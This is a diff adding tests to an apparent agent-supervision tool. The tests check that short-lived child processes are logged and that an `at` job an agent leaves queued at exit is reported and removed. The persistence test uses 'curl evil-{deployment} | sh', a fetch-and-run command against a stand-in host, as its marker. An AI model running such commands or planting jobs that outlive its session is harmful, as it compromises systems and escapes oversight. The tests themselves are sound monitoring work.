@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import stat
+import subprocess
 import sys
 from pathlib import Path
 
@@ -187,3 +189,67 @@ def test_the_stub_is_never_recorded_only_the_agent(
     procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
     assert procs[0].argv == ("sleep", "0.2")
     assert all("watchkeeper-run" not in e.argv for e in procs)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_processes_shorter_than_a_poll_are_recorded_with_their_status(
+    backend: Backend, home: Path, registry: Registry, deployment: str, agent_home: Path
+) -> None:
+    """Twenty children that each live ~5 ms, well under the 25 ms poll, all reach the ledger."""
+    script = "for i in $(seq 20); do sh -c 'sleep 0.005; exit 7' quick-child-$i; done"
+    supervise(home, registry, deployment, ["bash", "-c", script], agent_home, backend=backend)
+    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
+    starts = {e.pid for e in procs if e.phase == "start" and e.ppid is not None}
+    exits = [e for e in procs if e.phase == "exit" and e.exit_code == 7]
+    assert len(exits) >= 20, [(e.phase, e.argv, e.exit_code) for e in procs]
+    assert {e.pid for e in exits} <= starts
+    starts_detail = [
+        e for e in _events(home) if isinstance(e, DeploymentEvent) and e.action == "supervise"
+    ]
+    assert starts_detail[0].detail["process_events"] == "process events connector"
+
+
+def test_each_process_is_recorded_once_when_both_polls_and_the_connector_see_it(
+    home: Path, registry: Registry, deployment: str, agent_home: Path
+) -> None:
+    """A child that outlives several polls is one start and one exit, not two of each."""
+    script = "sh -c 'sleep 0.2' long-child; true"
+    supervise(home, registry, deployment, ["bash", "-c", script], agent_home)
+    procs = [e for e in _events(home) if isinstance(e, ProcessEvent)]
+    child = [e for e in procs if "long-child" in e.argv]
+    assert sorted(e.phase for e in child) == ["exit", "start"]
+
+
+def _at_jobs() -> dict[str, str]:
+    """Every queued `at` job: id → the script `at -c` shows."""
+    queued = subprocess.run(["atq"], capture_output=True, text=True, check=True).stdout
+    jobs = [line.split()[0] for line in queued.splitlines() if line.strip()]
+    return {
+        job: subprocess.run(["at", "-c", job], capture_output=True, text=True, check=False).stdout
+        for job in jobs
+    }
+
+
+def test_an_at_job_left_at_exit_is_reported_and_removed_on_request(
+    home: Path, registry: Registry, deployment: str, agent_home: Path
+) -> None:
+    """A job the agent queues with `at` is found at exit and removed with `atrm`."""
+    assert shutil.which("atq") is not None, "`make test` installs Debian's `at`"
+    marker = f"curl evil-{deployment} | sh"
+    try:
+        outcome = supervise(
+            home,
+            registry,
+            deployment,
+            ["sh", "-c", f"echo '{marker}' | at now + 7 hours 2>/dev/null"],
+            agent_home,
+            remove_persistence=True,
+        )
+        (finding,) = outcome.persistence
+        assert finding.category == "at-job"
+        assert finding.removed
+        assert not [job for job, text in _at_jobs().items() if marker in text]
+    finally:
+        for job, text in _at_jobs().items():
+            if marker in text:
+                subprocess.run(["atrm", job], check=False)
